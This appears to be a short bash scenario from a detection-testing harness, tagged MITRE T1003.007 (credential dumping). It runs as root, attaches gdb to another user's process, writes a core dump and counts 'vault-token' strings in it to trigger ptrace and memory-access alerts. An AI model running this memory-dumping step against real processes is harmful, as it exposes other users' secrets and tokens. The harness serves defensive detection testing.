#!/usr/bin/env bash
# tactic: credential-access
# technique: T1003.007 OS Credential Dumping: Proc Filesystem
# behaviour: attaches a debugger to another user's process and writes a core dump to search it offline
# as: root
# expect: ptrace, process_memory_access
set -u
timeout 20 gdb -q -batch -p "$SNTL_VICTIM_PID" -ex "gcore $SNTL_TMP/core" > /dev/null 2>&1 || true
strings "$SNTL_TMP/core"* 2>/dev/null | grep -c vault-token || true
